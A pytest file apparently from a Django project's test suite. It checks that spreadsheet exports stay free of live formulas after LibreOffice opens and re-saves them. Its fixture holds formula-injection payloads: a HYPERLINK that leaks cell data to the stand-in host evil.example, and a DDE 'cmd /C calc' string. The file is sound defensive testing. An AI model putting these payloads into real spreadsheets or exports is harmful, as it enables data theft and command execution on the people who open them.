"""The exported files opened in LibreOffice Calc (headless), not only in openpyxl.

Every file an office downloads (admin CSV and XLSX export, API CSV and XLSX, the import template) is
written with hostile cells, opened and saved again by LibreOffice (``soffice --headless --convert-to
xlsx``; a CSV is imported with formula evaluation and special-number detection switched on, the
worst case), and the workbook LibreOffice wrote is read back: no cell is a formula, the Chinese text
is intact, numbers are numbers and dates are dates. Skipped, with the reason, where LibreOffice is
not installed. ``QS_LIBREOFFICE_KEEP=/some/dir`` keeps the files (and a PDF of each) for a look.
"""

import datetime
import os
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from ledger.spreadsheet_cells import guard
from tests.factories import EnterpriseFactory, ProjectFactory, SuperUserFactory
from tests.test_formula_guard import EVERY_COLUMN

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"),
]

HOSTILE = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"
# Comma, double quote, UTF-8, from line 1, standard columns, zh-CN, quoted fields not forced to text,
# detect special numbers (dates), -, -, -, -, evaluate formulas: what a careless import would do.
LIBREOFFICE_BOOLEANS = {"=TRUE()", "=FALSE()"}
CSV_FILTER = "CSV:44,34,76,1,,2052,false,true,false,false,false,-1,true"


def libreoffice(source: Path, target_format: str, outdir: Path, *, infilter: str | None = None) -> Path:
    """Open ``source`` in LibreOffice and save it as ``target_format`` in ``outdir``; the new file."""
    outdir.mkdir(parents=True, exist_ok=True)
    profile = outdir / "profile"  # a profile of its own: parallel runs do not share LibreOffice's lock
    command = [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", target_format, "--outdir", str(outdir), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    converted = outdir / f"{source.stem}.{target_format.split(':')[0]}"
    assert converted.exists(), f"LibreOffice wrote no {converted.name}"
    return converted


def cells_by_header(path: Path) -> tuple[object, dict[str, object]]:
    """The first sheet LibreOffice saved, no cell a formula; its first data row by header.

    LibreOffice saves a boolean cell to XLSX as the formula ``=TRUE()``/``=FALSE()`` (its own
    encoding of a boolean): those are the booleans we wrote, any other formula is a live one."""
    sheet = load_workbook(path).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                assert cell.value in LIBREOFFICE_BOOLEANS, f"{path.name} {cell.coordinate} is a live formula: {cell.value!r}"
    headers = [cell.value for cell in sheet[1]]
    values = [cell.value for cell in sheet[2]] if sheet.max_row >= 2 else []
    return sheet, dict(zip(headers, values, strict=False))


@pytest.fixture
def files(tmp_path, admin_client) -> dict[str, Path]:
    ProjectFactory(
        name=HOSTILE, summary=SUMMARY, address="+1+1", responsible_unit="\t=1+1", slug="hostile", code="QS-钛-01",
        planned_jobs=120, signed_on=datetime.date(2026, 2, 10), total_investment=Decimal("12345.60"),
        investors=[EnterpriseFactory(name="武汉青山测试集团有限公司", short_name="青山测试")],
    )
    api = APIClient()
    api.force_authenticate(SuperUserFactory(username="api-staff"))
    bodies = {
        "admin.xlsx": admin_client.post("/admin/projects/project/export/", {"format": "0", **EVERY_COLUMN}),
        "admin.csv": admin_client.post("/admin/projects/project/export/", {"format": "1", **EVERY_COLUMN}),
        "api.xlsx": api.get("/api/v1/projects/?format=xlsx&headers=labels"),
        "api.csv": api.get("/api/v1/projects/?format=csv"),
        "template.xlsx": admin_client.get("/admin/projects/project/import-template.xlsx"),
    }
    keep = os.environ.get("QS_LIBREOFFICE_KEEP")
    folder = Path(keep) if keep else tmp_path / "downloads"
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, response in bodies.items():
        assert response.status_code == 200, (name, response.status_code)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        paths[name] = folder / name
        paths[name].write_bytes(body)
    return paths


def test_libreoffice_opens_every_export_with_no_live_formula_and_typed_cells(files, tmp_path):
    expected = guard(HOSTILE)
    saved = {
        name: libreoffice(path, "xlsx", tmp_path / "saved" / name.replace(".", "-"),
                          infilter=CSV_FILTER if name.endswith(".csv") else None)
        for name, path in files.items()
    }
    if os.environ.get("QS_LIBREOFFICE_KEEP"):
        for name, path in files.items():
            libreoffice(path, "pdf", Path(os.environ["QS_LIBREOFFICE_KEEP"]) / "pdf" / name.replace(".", "-"),
                        infilter=CSV_FILTER if name.endswith(".csv") else None)

    for name in ("admin.xlsx", "api.xlsx"):
        sheet, row = cells_by_header(saved[name])
        assert sheet.title == "招商项目", name
        assert row["项目名称"] == expected, name
        assert row["摘要"] == guard(SUMMARY), name
        assert row["计划就业人数"] == 120, name
        assert row["总投资（万元）"] == 12345.6, name
        assert row["签约日期"] == datetime.datetime(2026, 2, 10), name
        # The admin writes 是/否; the API a boolean cell (LibreOffice's encoding of it, above).
        assert row["总部项目"] == ("否" if name == "admin.xlsx" else "=FALSE()"), name
        money = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("总投资（万元）") + 1)
        assert money.number_format == "#,##0.00", name

    # The CSVs through LibreOffice's import with "evaluate formulas" on: the guard's apostrophe keeps
    # every hostile cell text; numbers and ISO dates still become numbers and dates.
    sheet, row = cells_by_header(saved["admin.csv"])
    assert row["项目名称"] == expected and row["责任单位"] == guard("\t=1+1")
    assert row["计划就业人数"] == 120 and row["签约日期"] == datetime.datetime(2026, 2, 10)
    assert "青山测试" in str(row["投资方"])
    sheet, row = cells_by_header(saved["api.csv"])
    assert row["name"] == expected and row["address"] == guard("+1+1")
    assert row["planned_jobs"] == 120 and row["signed_on"] == datetime.datetime(2026, 2, 10)

    sheet, row = cells_by_header(saved["template.xlsx"])
    assert list(row)[:3] == ["项目编号", "项目名称", "投资方"]
    assert str(row["项目名称"]).startswith("【示例】"), "the example row survives"
    assert row["签约日期"] == datetime.datetime(2026, 1, 15)
    lists = {dv.formula1 for dv in sheet.data_validations.dataValidation if dv.type == "list"}
    assert '"是,否"' in lists and any("已签约" in formula for formula in lists), "LibreOffice keeps the dropdowns"
